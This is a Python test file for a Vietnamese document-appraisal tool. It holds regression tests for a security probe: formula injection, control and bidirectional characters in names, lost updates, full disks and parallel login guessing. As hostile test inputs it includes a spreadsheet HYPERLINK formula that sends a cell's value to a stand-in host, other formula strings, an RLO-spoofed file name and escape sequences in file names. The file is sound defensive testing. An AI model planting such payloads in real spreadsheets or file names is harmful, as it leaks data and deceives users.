"""Faults of the second hostile probe (issue 19) on the page, the workbooks and what dvk shows: formula
injection, control and bidirectional characters in names, lost updates, a full disk, login guessing
in parallel, a restart over a closed keep-alive connection. Each test failed before its fix.
"""

from __future__ import annotations

import csv
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from pipeline import appraise, corrections, service
from pipeline.appraise import ID, RESULT
from pipeline.cli import main
from pipeline.config import init_workspace, load_workspace
from pipeline.model import LABELS_VI, DvkError
from pipeline.platform import files
from pipeline.web.server import require_free_port
from tests.docxbuild import proposal_paragraphs, write_docx

# ---------------------------------------------------------------------------- fault 10: restart


def time_wait_port() -> int:
    """A port whose server side closed first while a client was connected: left in TIME_WAIT, as a
    stopped `dvk serve` leaves the port a browser's keep-alive connection was using."""
    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        port = listener.getsockname()[1]
        client = socket.create_connection(("127.0.0.1", port))
        accepted, _ = listener.accept()
        accepted.close()  # the server closes first: its side goes to TIME_WAIT
    client.close()
    return port


@pytest.mark.skipif(sys.platform == "win32", reason="Windows does not block a listening bind on TIME_WAIT")
def test_serve_starts_again_right_after_a_stop_that_left_a_keep_alive_connection() -> None:
    port = time_wait_port()
    require_free_port("127.0.0.1", port)  # raised "Address already in use" before the fix


def test_a_port_really_in_use_is_still_refused_with_a_clear_message() -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        port = listener.getsockname()[1]
        with pytest.raises(DvkError, match=f"Không mở được cổng {port} trên 127.0.0.1"):
            require_free_port("127.0.0.1", port)


# ---------------------------------------------------------------------------- fault 9: login guessing


def parallel_logins(app, count: int, password: str, address: str) -> list[int]:
    """`count` login POSTs sent at once from `address`, each with the form's CSRF token."""
    import asyncio

    import httpx

    async def run() -> list[int]:
        transport = httpx.ASGITransport(app=app, client=(address, 40000))
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1:8765") as web:
            form = await web.get("/dang-nhap")
            csrf = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)
            answers = await asyncio.gather(
                *(web.post("/dang-nhap", data={"csrf": csrf, "mat-khau": password}) for _ in range(count))
            )
        return [answer.status_code for answer in answers]

    return asyncio.run(run())


@pytest.fixture()
def guarded(tmp_path: Path, monkeypatch):
    """A LAN server's app (password set) whose clock stands still and whose login waits are skipped, so
    only the booking decides how many guesses are checked; the number of checks is counted."""
    from pipeline.web import app as web_app
    from pipeline.web import security

    checked: list[str] = []
    real_check = security.check_password

    def counting_check(password: str, stored: str) -> bool:
        checked.append(password)
        return real_check(password, stored)

    async def no_wait(seconds: float) -> None:
        return None

    monkeypatch.setattr(security, "check_password", counting_check)
    monkeypatch.setattr(security, "clock", lambda: 1000.0)
    monkeypatch.setattr(web_app, "pause", no_wait)
    workspace = load_workspace(init_workspace(tmp_path / "ws"))
    stored = security.hash_password("mật khẩu đúng")
    return web_app.create_app(workspace, password_hash=stored, hosts=None), checked


def test_forty_parallel_guesses_from_one_address_are_paced_as_designed(guarded) -> None:
    app, checked = guarded
    answers = parallel_logins(app, 40, "đoán sai", "192.0.2.66")
    # Waits booked before any check: 0, 0.5, 1.5, 3, 5, 7.5, 10.5, 14 s; the next would pass 15 s.
    assert len(checked) == 8, "every parallel guess was checked at once before the fix"
    assert sorted(answers) == [403] * 8 + [429] * 32


def test_guesses_spread_over_forty_addresses_share_one_pace(guarded) -> None:
    app, checked = guarded
    addresses = [f"192.0.2.{100 + index}" for index in range(40)]
    for _ in range(3):  # three rounds of one guess from every address, each round sent at once
        for address in addresses:
            parallel_logins(app, 1, "đoán sai", address)
    # Each address's first guess is its own; after it, every address that has failed waits its turn in
    # one pace of 0.5 s, and what would wait past 15 s is refused: 40 + 30 checked, not 120.
    assert len(checked) == 70


def test_the_clerk_is_not_held_up_by_guesses_from_another_address(guarded) -> None:
    app, checked = guarded
    parallel_logins(app, 40, "đoán sai", "192.0.2.66")
    guard = app.state.guard
    assert guard.admit("192.0.2.10") == 0.0, "an address without failures logs in at once"
    assert parallel_logins(app, 1, "mật khẩu đúng", "192.0.2.11") == [303]


# ---------------------------------------------------------------------------- fault 7: a full disk


class FullDiskConnection:
    """A SQLite connection on a disk with 0 bytes free: taking a write lock needs a journal page."""

    def __init__(self, real) -> None:
        self.real = real

    def execute(self, sql: str, *args):
        if sql.startswith("BEGIN"):
            raise sqlite3.OperationalError("database or disk is full")
        return self.real.execute(sql, *args)

    def __getattr__(self, name: str):
        return getattr(self.real, name)


def test_a_full_disk_under_the_workspace_lock_is_not_called_busy(tmp_path: Path, monkeypatch) -> None:
    from pipeline import service

    root = init_workspace(tmp_path / "ws")
    real_connect = sqlite3.connect
    monkeypatch.setattr(service.sqlite3, "connect", lambda *a, **k: FullDiskConnection(real_connect(*a, **k)))
    result = CliRunner().invoke(main, ["check", "-w", str(root)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    lock = root / ".dvk-cache" / service.LOCK_NAME
    assert f"Lỗi: Không ghi được {lock}: ổ đĩa đã đầy. Giải phóng dung lượng rồi chạy lại." in result.output
    assert "đang được một thao tác khác ghi" not in result.output


@pytest.mark.parametrize(
    ("free", "cause"),
    [(4096, "ổ đĩa đã đầy. Giải phóng dung lượng rồi chạy lại"), (10**12, "Input/output error")],
)
def test_a_disk_io_error_with_a_few_kb_free_is_a_full_disk(tmp_path: Path, monkeypatch, free, cause) -> None:
    import shutil
    from collections import namedtuple

    from pipeline.archive import register
    from pipeline.platform import files

    root = init_workspace(tmp_path / "ws")
    write_docx(root / "inputs" / "Sổ vàng.docx", *proposal_paragraphs())

    def failing(*args, **kwargs):
        raise sqlite3.OperationalError("disk I/O error")

    usage = namedtuple("usage", "total used free")
    monkeypatch.setattr(register, "record_drafts", failing)
    monkeypatch.setattr(files.shutil, "disk_usage", lambda path: usage(10**12, 10**12 - free, free))
    result = CliRunner().invoke(main, ["build", "-w", str(root)])
    monkeypatch.setattr(files.shutil, "disk_usage", shutil.disk_usage)
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"Lỗi: Không ghi được sổ đăng ký văn bản hoặc khóa thư mục làm việc: {cause}." in result.output


# ---------------------------------------------------------------------------- fault 6: lost updates


def save_as_a_person(path: Path, sheet_name: str, key_column: str, key: str, column: str, value: str) -> None:
    """What a person does in Excel or LibreOffice: type a cell on a row, save (a new file renamed over)."""
    book = load_workbook(path)
    sheet = book[sheet_name]
    header = [cell.value for cell in sheet[1]]
    for row in range(2, sheet.max_row + 1):
        if sheet.cell(row, header.index(key_column) + 1).value == key:
            sheet.cell(row, header.index(column) + 1).value = value
    book.save(path.with_name("~person-save.tmp"))
    os.replace(path.with_name("~person-save.tmp"), path)


def land_before_replace(monkeypatch, path: Path, save) -> list[int]:
    """Run `save()` (a person's save of `path`) once, after dvk read that workbook and before its new
    version replaces the old one (as the new version starts being written)."""
    real, landed = files.write_atomically, []

    def write_atomically(target, *args, **kwargs):
        if not landed and Path(target) == path:
            landed.append(1)
            save()
        return real(target, *args, **kwargs)

    monkeypatch.setattr(files, "write_atomically", write_atomically)
    return landed


def sheet_rows(path: Path, sheet_name: str, key_column: str) -> dict[str, dict]:
    sheet = load_workbook(path)[sheet_name]
    header = [cell.value for cell in sheet[1]]
    return {
        values[header.index(key_column)]: dict(zip(header, values, strict=False))
        for values in sheet.iter_rows(min_row=2, values_only=True)
        if values[header.index(key_column)]
    }


@pytest.fixture()
def checked(tmp_path: Path):
    root = init_workspace(tmp_path / "ws")
    write_docx(root / "inputs" / "Sổ vàng.docx", *proposal_paragraphs())
    write_docx(root / "inputs" / "Tổ tự quản.docx", *proposal_paragraphs(model_name="Tổ tự quản"))
    write_docx(
        root / "inputs" / "Thiếu cấp.docx", *proposal_paragraphs(model_name="Mô hình thiếu cấp", level="")
    )
    workspace = load_workspace(root)
    service.check(workspace)
    return workspace


def test_a_person_saving_while_the_page_saves_an_appraisal_keeps_both(checked, monkeypatch) -> None:
    path = service.workbook_path(checked)
    first, second = sorted(sheet_rows(path, appraise.SHEET, ID))
    landed = land_before_replace(
        monkeypatch, path, lambda: save_as_a_person(path, appraise.SHEET, ID, second, RESULT, "Khá")
    )
    service.set_appraisal(checked, first, "Tốt", "Đủ điều kiện")
    rows = sheet_rows(path, appraise.SHEET, ID)
    assert landed and rows[second][RESULT] == "Khá", "the person's save was overwritten before the fix"
    assert rows[first][RESULT] == "Tốt" and rows[first][appraise.NOTE] == "Đủ điều kiện"


def test_a_person_saving_while_the_check_rewrites_the_corrections_keeps_both(checked, monkeypatch) -> None:
    path = service.corrections_path(checked)
    [rel] = sheet_rows(path, corrections.SHEET, corrections.FILE)
    level = LABELS_VI["level"]
    write_docx(checked.inputs / "Thiếu nữa.docx", *proposal_paragraphs(model_name="Mô hình mới", level=""))
    landed = land_before_replace(
        monkeypatch,
        path,
        lambda: save_as_a_person(path, corrections.SHEET, corrections.FILE, rel, level, "Cấp xã"),
    )
    service.check(checked)
    rows = sheet_rows(path, corrections.SHEET, corrections.FILE)
    assert landed and rows[rel][level] == "Cấp xã", "the person's save was overwritten before the fix"
    assert "Thiếu nữa.docx" in rows, "dvk's new row is there too"


@pytest.mark.parametrize("lock", [".~lock.tham-dinh.xlsx#", "~$tham-dinh.xlsx"])
def test_a_workbook_open_in_libreoffice_or_excel_is_not_replaced(checked, lock) -> None:
    path = service.workbook_path(checked)
    first = sorted(sheet_rows(path, appraise.SHEET, ID))[0]
    before = path.read_bytes()
    (path.parent / lock).write_text("person,host,/home/person;08.12.2026 02:00;", "utf-8")
    with pytest.raises(DvkError) as refused:
        service.set_appraisal(checked, first, "Tốt", "")
    assert str(refused.value) == (
        f"Không ghi được {path}: tệp đang mở trong Excel, LibreOffice hoặc chương trình khác (có tệp khóa "
        f"{lock}). Lưu, đóng tệp đó rồi chạy lại; tệp cũ vẫn giữ nguyên. Nếu không ai mở mà tệp khóa vẫn "
        "còn, xóa tệp khóa đó."
    )
    assert path.read_bytes() == before


# ---------------------------------------------------------------------------- under load


def test_the_page_rows_follow_a_save_without_reading_the_workbook_again(checked, monkeypatch) -> None:
    from pipeline.web import pages

    path = service.workbook_path(checked)
    first = sorted(sheet_rows(path, appraise.SHEET, ID))[0]
    pages.appraisal_rows(checked)
    monkeypatch.setattr(pages, "read_rows", lambda path: pytest.fail("the whole workbook was read again"))
    service.set_appraisal(checked, first, "Khá", "Hạ một bậc")
    row = next(row for row in pages.appraisal_rows(checked) if row[ID] == first)
    assert row[RESULT] == "Khá" and row[appraise.NOTE] == "Hạ một bậc"
    assert sheet_rows(path, appraise.SHEET, ID)[first][RESULT] == "Khá"


def test_saves_from_many_tabs_at_once_are_all_written_and_a_wrong_id_fails_alone(checked) -> None:
    import threading

    path = service.workbook_path(checked)
    ids = sorted(sheet_rows(path, appraise.SHEET, ID))
    saves = [(proposal_id, result) for proposal_id in ids for result in ("Tốt", "Khá")] + [
        ("MH-KHÔNG-CÓ", "Tốt")
    ]
    errors: dict[str, str] = {}

    def save(proposal_id: str, result: str) -> None:
        try:
            service.set_appraisal(checked, proposal_id, result, f"ghi chú {result}")
        except DvkError as exc:
            errors[proposal_id] = str(exc)

    threads = [threading.Thread(target=save, args=save_args) for save_args in saves]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert errors == {"MH-KHÔNG-CÓ": f"Sổ thẩm định {path.name} không có mã MH-KHÔNG-CÓ."}
    rows = sheet_rows(path, appraise.SHEET, ID)
    assert all(rows[proposal_id][RESULT] in ("Tốt", "Khá") for proposal_id in ids)
    assert all(rows[i][appraise.NOTE] == f"ghi chú {rows[i][RESULT]}" for i in ids), (
        "result and note together"
    )


# ---------------------------------------------------------------------------- fault 1: formula injection

LINK = '=HYPERLINK("http://example.invalid/?d="&B2,"Xem")'


@pytest.fixture()
def hostile(tmp_path: Path):
    """A campaign whose model name is a formula, in a folder named like one, with a file there that
    needs a correction (so every workbook of the check holds a hostile text)."""
    root = init_workspace(tmp_path / "ws")
    write_docx(root / "inputs" / "=2+3" / "Sổ vàng.docx", *proposal_paragraphs(model_name=LINK))
    write_docx(root / "inputs" / "=2+3" / "Thiếu cấp.docx", *proposal_paragraphs(model_name="=1+1", level=""))
    workspace = load_workspace(root)
    service.check(workspace)
    return workspace


def register_with_a_hostile_signer(workspace, monkeypatch) -> Path:
    from pipeline.archive import register_export

    entry = {
        "printed": "12/QĐ-BDVTU",
        "date": "2020-12-23",
        "title": "Quyết định công nhận",
        "signer": LINK,  # the signer certificate's name, as the signed PDF carries it
        "recipients": ["=1+1"],
        "kept_by": "Văn phòng",
        "signature": "valid",
        "replaced": [],
        "code": "",
    }
    monkeypatch.setattr(register_export, "outgoing_register", lambda workspace: [entry])
    return register_export.write_register_xlsx(workspace, workspace.root / "so-dang-ky.xlsx")


def dvk_workbooks(workspace, monkeypatch) -> list[Path]:
    year = workspace.year_dir
    register = register_with_a_hostile_signer(workspace, monkeypatch)
    return [
        year / "tham-dinh.xlsx",
        year / "bao-cao-kiem-tra.xlsx",
        year / "bo-sung-thong-tin.xlsx",
        register,
    ]


def test_text_that_looks_like_a_formula_is_stored_as_text_in_every_workbook(hostile, monkeypatch) -> None:
    for path in dvk_workbooks(hostile, monkeypatch):
        cells = [cell for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row]
        formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert formulas == [], f"{path.name} stores live formulas at {formulas}"
        texts = {cell.value for cell in cells if isinstance(cell.value, str)}
        assert LINK in texts or any("=2+3/" in text for text in texts), path.name


CSV_UTF8 = "csv:Text - txt - csv (StarCalc):44,34,76"  # comma, double quote, UTF-8


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_shows_the_text_not_a_formula_result(hostile, monkeypatch, tmp_path: Path) -> None:
    profile = (tmp_path / "lo-profile").as_uri()
    for path in dvk_workbooks(hostile, monkeypatch):
        out = tmp_path / path.stem
        command = ["soffice", f"-env:UserInstallation={profile}", "--headless", "--convert-to", CSV_UTF8]
        done = subprocess.run([*command, "--outdir", str(out), str(path)], capture_output=True, timeout=180)
        if b"could not be loaded" in done.stdout + done.stderr:
            pytest.skip("LibreOffice is installed without Calc: it cannot open a workbook")
        with open(out / f"{path.stem}.csv", encoding="utf-8", newline="") as shown:
            cells = {cell for row in csv.reader(shown) for cell in row}
        assert LINK in cells or "=2+3/Thiếu cấp.docx" in cells, (
            f"{path.name} as LibreOffice shows it: {cells}"
        )
        assert "Xem" not in cells and "2" not in cells and "5" not in cells, f"{path.name}: a formula ran"


# ---------------------------------------------------------------------------- fault 2: control characters

CONTROL_NAMES = ["Phường\x01An Hòa/Sổ vàng.docx", "Sổ\x07vàng.docx", "Sổ\x1b[31mđỏ.docx", "Sổ\x0bdọc.docx"]


@pytest.mark.skipif(sys.platform == "win32", reason="Windows forbids control characters in file names")
def test_a_control_character_in_a_name_is_a_clear_status_in_check_and_at_serve_start(tmp_path: Path) -> None:
    from pipeline.web import server

    root = init_workspace(tmp_path / "ws")
    for name in CONTROL_NAMES:
        write_docx(root / "inputs" / name, *proposal_paragraphs(model_name=f"Mô hình {len(name)}"))
    result = CliRunner().invoke(main, ["check", "-w", str(root), "--json"])
    assert result.exit_code == 0 and "Traceback" not in result.output, result.output
    import json

    files_seen = {item["path"]: item for item in json.loads(result.stdout)["files"]}
    for name in CONTROL_NAMES:
        assert files_seen[name]["status"] == "skipped"
        assert files_seen[name]["reason"].startswith(
            "tên tệp hoặc thư mục có ký tự điều khiển hoặc ký tự đảo"
        )
    report = load_workbook(root / "outputs" / "2020" / "bao-cao-kiem-tra.xlsx")
    shown = {cell.value for row in report.worksheets[0].iter_rows() for cell in row}
    assert "Phường␁An Hòa/Sổ vàng.docx" in shown and "Sổ␛[31mđỏ.docx" in shown, "shown as control pictures"
    assert server.prepare(load_workspace(root)) == "", "dvk serve starts"


# ---------------------------------------------------------------------------- fault 11: bidirectional text

RLO = "\u202e"


def test_bidirectional_overrides_are_neutralised_in_what_dvk_shows_and_writes(tmp_path: Path) -> None:
    from tests.webtools import client

    root = init_workspace(tmp_path / "ws")
    write_docx(root / "inputs" / f"Báo cáo{RLO}xcod.docx", *proposal_paragraphs(model_name="Tổ tự quản"))
    write_docx(root / "inputs" / "Sổ vàng.docx", *proposal_paragraphs(model_name=f"Sổ vàng {RLO}khởi nghiệp"))
    result = CliRunner().invoke(main, ["check", "-w", str(root)])
    assert result.exit_code == 0 and RLO not in result.output, "the terminal listing shows no override"
    assert "Sổ vàng khởi nghiệp" in result.output and "Báo cáoxcod.docx" in result.output
    assert (
        "Tên mô hình có ký tự đảo chiều văn bản hoặc ký tự điều khiển (U+202E) làm chữ hiện sai thứ tự hoặc "
        "không thấy được; dvk đã bỏ các ký tự đó ở mọi nơi ghi giá trị này."
    ) in result.output
    assert "tên tệp hoặc thư mục có ký tự điều khiển hoặc ký tự đảo chiều văn bản (U+202E)" in result.output
    for name in ("tham-dinh.xlsx", "bao-cao-kiem-tra.xlsx"):
        book = load_workbook(root / "outputs" / "2020" / name)
        texts = [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
        assert not any(RLO in text for text in texts), name
        assert any("Sổ vàng khởi nghiệp" in text for text in texts), name
    workspace = load_workspace(root)
    for page in ("/ho-so", "/tham-dinh", "/"):
        assert RLO not in client(workspace).get(page).text, page


def test_neutralise_drops_direction_controls_and_shows_control_characters() -> None:
    from pipeline.vntext import hidden_characters, neutralise

    assert neutralise(f"Sổ{RLO}\u2066vàng\u200f") == "Sổvàng"
    assert neutralise("a\x01b\x1bc\x7fd\x85e\tf\ng") == "a␁b␛c␡d\ufffde\tf\ng"
    assert hidden_characters(f"a{RLO}b\x01{RLO}") == ["U+202E", "U+0001"]
    assert neutralise("Sổ vàng khởi nghiệp") == "Sổ vàng khởi nghiệp"
